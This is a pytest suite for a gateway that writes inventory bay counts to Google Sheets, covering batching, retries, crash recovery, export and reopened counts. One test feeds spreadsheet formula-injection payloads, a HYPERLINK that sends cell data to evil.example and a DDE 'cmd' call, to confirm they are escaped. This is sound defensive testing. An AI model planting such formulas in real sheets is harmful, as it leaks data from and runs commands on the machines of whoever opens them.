"""Sheets sink: real gspread over HTTP against the Sheets-compatible fake, real store outbox."""

from __future__ import annotations

from pathlib import Path
from typing import TYPE_CHECKING

import gspread
import pytest

from gateway.config import load_settings
from gateway.schema import Correction
from gateway.sinks.commands import doctor_lines, export_main
from gateway.sinks.registry import build_sinks
from gateway.sinks.sheets import (
    HEADER,
    SCOPES,
    VARIANCES,
    EndpointHTTPClient,
    OffGoogleCredentials,
    SheetsSink,
)
from gateway.sinks.worker import OutboxWorker
from tests.fakes.bays import Bays, Clock, row

if TYPE_CHECKING:  # the module is a pytest plugin: imported by pytest, not here
    from tests.fakes.sheets_server import SheetsEnv

pytest_plugins = ["tests.fakes.sheets_server"]

COUNT_ID = HEADER.index("Count_ID")


def _setup(tmp_path: Path, sheets: SheetsEnv, **extra: str):
    env = {**sheets.env(), **extra}
    settings = load_settings(env, data_dir=tmp_path / "data")
    bays = Bays.open(tmp_path / "store.db")
    clock = Clock()
    worker = OutboxWorker(bays.store, build_sinks(settings, bays.store.session_rows),
                          clock=clock)
    return settings, bays, clock, worker


def _today(bays: Bays) -> str:
    return bays.store.outbox_entries(bays.session_id)[0].created_at.date().isoformat()


def test_bays_land_once_with_layout_header_and_variances(tmp_path: Path,
                                                         sheets: SheetsEnv) -> None:
    _, bays, _, worker = _setup(tmp_path, sheets)
    bays.confirm("A-01-1", [row("A-01-1", "SKU-10001", 25), row("A-01-1", "SKU-10002", 3)])
    bays.confirm("A-01-2", [row("A-01-2", "SKU-10003", 0)])
    assert worker.run_once() == 2
    title = _today(bays)
    rows = sheets.fake.rows(sheets.key, title)
    assert rows[0] == list(HEADER)
    assert [r[COUNT_ID] for r in rows[1:]] == [bays.count_ids[0]] * 2 + [bays.count_ids[1]]
    assert rows[1][:4] == ["A-01-1", "SKU-10001", "Test product SKU-10001", 25]
    # No ERP configured: no system quantity, only the stock flags (default reorder point 10).
    assert [r[-1] for r in rows[1:]] == ["", "Low stock", "Out of stock"]
    book = sheets.fake.books[sheets.key]
    grid = book.sheet(title)
    assert grid is not None and grid.frozen_rows == 1
    assert grid.formats[0]["cell"]["userEnteredFormat"]["textFormat"]["bold"] is True
    flagged = sheets.fake.rows(sheets.key, VARIANCES)
    assert [r[1] for r in flagged[1:]] == ["SKU-10002", "SKU-10003"]
    # One append per worksheet for the whole batch: quotas count requests.
    assert sheets.fake.count("POST", ":append") == 2
    # Delivering again (a retry) adds nothing.
    sink = worker.sinks[0]
    for entry in bays.store.outbox_entries(bays.session_id):
        sink.deliver(entry)
    assert len(sheets.fake.rows(sheets.key, title)) == 4
    assert len(sheets.fake.rows(sheets.key, VARIANCES)) == 3


def test_findings_worksheet_gets_each_bays_findings_once(tmp_path: Path,
                                                        sheets: SheetsEnv) -> None:
    from gateway.sinks.sheets import FINDINGS, FINDINGS_HEADER

    _, bays, _, worker = _setup(tmp_path, sheets)
    gap = {"type": "gap", "box": [10.5, 20.0, 110.5, 220.0], "sku": "",
           "expected_sku": "SKU-10001", "confidence": 0.9}
    wrong = {"type": "misplaced", "box": [200.0, 20.0, 300.0, 220.0], "sku": "SKU-10009",
             "expected_sku": "SKU-10001", "confidence": 0.95}
    first = bays.confirm("A-01-1", [row("A-01-1", "SKU-10001", 25)], [gap, wrong])
    bays.confirm("A-01-2", [row("A-01-2", "SKU-10003", 20)])  # nothing found there
    assert worker.run_once() == 2
    rows = sheets.fake.rows(sheets.key, FINDINGS)
    assert rows[0] == list(FINDINGS_HEADER)
    assert [r[:10] for r in rows[1:]] == [
        ["A-01-1", first, "gap", 10.5, 20.0, 110.5, 220.0, "", "SKU-10001", 0.9],
        ["A-01-1", first, "misplaced", 200.0, 20.0, 300.0, 220.0, "SKU-10009", "SKU-10001",
         0.95]]
    assert rows[1][FINDINGS_HEADER.index("Count_ID")] == first
    for entry in bays.store.outbox_entries(bays.session_id):  # a retry adds nothing
        worker.sinks[0].deliver(entry)
    assert len(sheets.fake.rows(sheets.key, FINDINGS)) == 3


def test_formula_injection_is_escaped(tmp_path: Path, sheets: SheetsEnv) -> None:
    _, bays, _, worker = _setup(tmp_path, sheets)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    bays.confirm("A-01-1", [row("A-01-1", "@SUM(1+1)", 12, description=evil),
                            row("A-01-1", "+cmd|' /C calc'!A0", 11, description="-2+3")])
    assert worker.run_once() == 1
    rows = sheets.fake.rows(sheets.key, _today(bays))[1:]
    assert rows[0][1] == "'@SUM(1+1)" and rows[0][2] == "'" + evil
    assert rows[1][1].startswith("'+cmd") and rows[1][2] == "'-2+3"
    assert all(not str(cell).startswith(("=", "+", "@")) for r in rows for cell in r)


def test_quota_429_and_5xx_back_off_then_deliver(tmp_path: Path, sheets: SheetsEnv) -> None:
    _, bays, clock, worker = _setup(tmp_path, sheets)
    bays.confirm("A-01-1", [row("A-01-1", "SKU-10001", 12)])
    bays.confirm("A-01-2", [row("A-01-2", "SKU-10002", 12)])
    entry, second = bays.store.outbox_entries(bays.session_id)
    sheets.fake.inject(429, count=1, retry_after=30)
    assert worker.run_once() == 0
    status = bays.store.outbox_status(entry.id)["sheets"]
    assert "429" in status["last_error"] and status["delivered_at"] is None
    assert (status["retry_at"] - clock.now).total_seconds() >= 30  # Retry-After honoured
    clock.advance(10)
    assert worker.run_once() == 0  # not due yet: nothing is sent
    clock.advance(25)
    sheets.fake.inject(503, count=1)
    assert worker.run_once() == 0
    status = bays.store.outbox_status(entry.id)["sheets"]
    assert status["attempts"] == 2 and "503" in status["last_error"]
    assert bays.store.outbox_status(second.id)["sheets"]["retry_at"] == status["retry_at"]
    wait = (status["retry_at"] - clock.now).total_seconds()
    assert 1.0 <= wait <= 4.0  # second attempt: base 2 s doubled, equal jitter
    clock.advance(wait)
    appends = sheets.fake.count("POST", ":append")
    assert worker.run_once() == 2  # together, as one batch
    assert sheets.fake.count("POST", ":append") == appends + 1
    assert len(sheets.fake.rows(sheets.key, _today(bays))) == 3


def test_server_down_entries_wait_and_go_through(tmp_path: Path, sheets: SheetsEnv) -> None:
    _, bays, clock, worker = _setup(tmp_path, sheets)
    sheets.fake.stop()
    for i in range(3):
        bays.confirm(f"A-0{i + 1}-1", [row(f"A-0{i + 1}-1", f"SKU-1000{i + 1}", 20 + i)])
    for _ in range(3):
        assert worker.run_once() == 0
        clock.advance(700)
    entry = bays.store.outbox_entries(bays.session_id)[0]
    assert "unreachable" in bays.store.outbox_status(entry.id)["sheets"]["last_error"]
    sheets.fake.start()
    assert worker.run_once() == 3
    rows = sheets.fake.rows(sheets.key, _today(bays))
    assert sorted(r[COUNT_ID] for r in rows[1:]) == sorted(bays.count_ids)


class _DiesAfterSending:
    """The store as seen by a worker process that dies right after the sheet got the rows."""

    def __init__(self, store: object) -> None:
        self._store = store

    def __getattr__(self, name: str) -> object:
        return getattr(self._store, name)

    def outbox_mark_delivered(self, entry_id: str, sink: str) -> None:
        raise KeyboardInterrupt("killed between sending and recording")


def test_killed_between_sending_and_recording_no_duplicate(tmp_path: Path,
                                                          sheets: SheetsEnv) -> None:
    settings, bays, clock, _ = _setup(tmp_path, sheets)
    for i in range(4):
        bays.confirm(f"A-0{i + 1}-1", [row(f"A-0{i + 1}-1", f"SKU-1000{i + 1}", 20)])
    doomed = OutboxWorker(_DiesAfterSending(bays.store),  # type: ignore[arg-type]
                          build_sinks(settings, bays.store.session_rows), clock=clock)
    with pytest.raises(KeyboardInterrupt):
        doomed.run_once()
    assert len(sheets.fake.rows(sheets.key, _today(bays))) == 5  # sent, never recorded
    assert bays.delivered("sheets") == 0
    restarted = OutboxWorker(bays.store, build_sinks(settings, bays.store.session_rows),
                             clock=clock)
    assert restarted.run_once() == 0  # the dead worker's claims hold until the lease ends
    clock.advance(31)
    assert restarted.run_once() == 4
    assert len(sheets.fake.rows(sheets.key, _today(bays))) == 5
    assert restarted.run_once() == 0


def test_worksheet_per_session_and_export(tmp_path: Path, sheets: SheetsEnv,
                                          capsys: pytest.CaptureFixture[str]) -> None:
    settings = load_settings({**sheets.env(), "SHELFCOUNT_SHEETS_WORKSHEET": "session"},
                             data_dir=tmp_path / "data")
    (tmp_path / "data").mkdir()
    bays = Bays.open(tmp_path / "data" / "shelfcount.db")  # where open_store looks
    bays.confirm("A-01-1", [row("A-01-1", "SKU-10001", 20)])
    bays.confirm("A-01-2", [row("A-01-2", "SKU-10002", 20)])
    assert export_main(settings, bays.session_id, "sheets") == 0
    assert "2 of 2 bays" in capsys.readouterr().out
    title = f"Session {bays.session_id}"
    assert len(sheets.fake.rows(sheets.key, title)) == 3
    assert export_main(settings, bays.session_id, "sheets") == 0  # again: nothing added
    assert len(sheets.fake.rows(sheets.key, title)) == 3
    assert bays.delivered("sheets") == 2
    assert export_main(settings, bays.session_id, "tryton") == 2
    assert "SHELFCOUNT_TRYTON_URL" in capsys.readouterr().err
    assert export_main(settings, "no-such-session", "sheets") == 1


def test_doctor_lines(tmp_path: Path, sheets: SheetsEnv) -> None:
    def lines(**env: str) -> dict[str, str | None]:
        return dict(doctor_lines(load_settings({**sheets.env(), **env},
                                               data_dir=tmp_path)))

    assert lines() == {"sheets": None}
    assert "not found" in str(lines(SHELFCOUNT_SHEETS_SPREADSHEET="nope")["sheets"])
    missing = lines(SHELFCOUNT_SHEETS_CREDENTIALS=str(tmp_path / "missing.json"))
    assert "unusable" in str(missing["sheets"])
    half = dict(doctor_lines(load_settings({"SHELFCOUNT_SHEETS_SPREADSHEET": "k"},
                                           data_dir=tmp_path)))
    assert half == {"sheets": "missing SHELFCOUNT_SHEETS_CREDENTIALS"}
    sheets.fake.stop()
    assert "unreachable" in str(lines()["sheets"])


def test_token_endpoint_rejects_unknown_key(tmp_path: Path, sheets: SheetsEnv) -> None:
    other = sheets.fake.service_account("intruder@example")
    sheets.fake.public_keys.pop("intruder@example")
    path = tmp_path / "intruder.json"
    path.write_text(__import__("json").dumps(other))
    sink = SheetsSink(path, sheets.key, endpoint=sheets.fake.url)
    assert "token endpoint refused" in str(sink.check())


def test_fake_speaks_the_values_api_gspread_uses(sheets: SheetsEnv) -> None:
    """The fake itself, through plain gspread: update, get, append, clear, metadata."""
    creds = OffGoogleCredentials.from_service_account_file(str(sheets.credentials),
                                                           scopes=SCOPES)
    client = gspread.Client(auth=creds, http_client=lambda auth, session:
                            EndpointHTTPClient(auth, session, root=sheets.fake.url))
    book = client.open_by_key(sheets.key)
    ws = book.add_worksheet("Scratch", rows=10, cols=5)
    ws.update([["a", "b"], [1, 2.5]], "A1", value_input_option="RAW")
    ws.append_rows([["c", 3]], value_input_option="RAW", table_range="A1")
    assert ws.get_values("A1:B3") == [["a", "b"], ["1", "2.5"], ["c", "3"]]
    assert ws.col_values(1) == ["a", "1", "c"]
    ws.freeze(rows=1)
    assert book.fetch_sheet_metadata()["sheets"][1]["properties"]["gridProperties"][
        "frozenRowCount"] == 1
    ws.batch_clear(["A2:B2"])
    assert ws.get_values("A1:B3") == [["a", "b"], ["", ""], ["c", "3"]]  # gspread pads
    ws.clear()
    assert not any(any(r) for r in ws.get_values("A1:B3"))
    with pytest.raises(gspread.exceptions.SpreadsheetNotFound):
        client.open_by_key("missing")


def test_a_reopened_bay_confirmed_again_lands_once_flagged(tmp_path: Path,
                                                          sheets: SheetsEnv) -> None:
    """Issue 12: a manager reopens a confirmed bay; the sheet gets the new version once, with
    the change flagged (here and on the variances sheet), the old lines stay as they were."""
    _, bays, _, worker = _setup(tmp_path, sheets)
    first = bays.confirm("A-01-1", [row("A-01-1", "SKU-10001", 25)])
    assert worker.run_once() == 1
    manager, _ = bays.store.add_device("manager-1", "manager")
    (copy,) = bays.store.reopen(first, manager)
    assert bays.store.get_count(first).superseded_by == copy.id
    bays.store.correct(copy.id, Correction(sku="SKU-10001", quantity=23, correction_id="fix"),
                       by=manager)
    bays.store.confirm_count(copy.id, manager)
    old, new = bays.store.outbox_entries(bays.session_id)
    assert new.revises == old.id and old.revises is None
    assert worker.run_once() == 1 and worker.run_once() == 0
    rows = sheets.fake.rows(sheets.key, _today(bays))
    assert [(r[COUNT_ID], r[3], r[-1]) for r in rows[1:]] == [
        (first, 25, ""), (copy.id, 23, "Reopened")]
    flagged = sheets.fake.rows(sheets.key, VARIANCES)
    assert [r[COUNT_ID] for r in flagged[1:]] == [copy.id]
    with pytest.raises(Exception, match="only the confirmed photo"):
        bays.store.reopen(first, manager)  # the old photo is history now
